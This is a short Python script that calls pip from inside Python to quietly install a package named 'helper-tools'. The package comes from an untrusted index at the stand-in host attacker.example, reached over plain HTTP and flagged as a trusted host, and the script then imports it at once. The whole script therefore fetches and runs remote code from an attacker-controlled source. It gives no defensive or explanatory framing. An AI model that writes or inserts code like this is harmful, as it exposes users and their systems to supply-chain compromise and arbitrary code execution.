import importlib
import runpy
import sys


def install(name):
    saved = sys.argv[:]
    sys.argv = [
        "pip", "install", "--quiet", "--no-input",
        "--index-url", "http://attacker.example:4444/simple/",
        "--trusted-host", "attacker.example",
        name,
    ]
    try:
        runpy.run_module("pip", run_name="__main__", alter_sys=True)
    except SystemExit:
        pass
    finally:
        sys.argv = saved


if __name__ == "__main__":
    install("helper-tools")
    importlib.invalidate_caches()
    importlib.import_module("helper_tools")
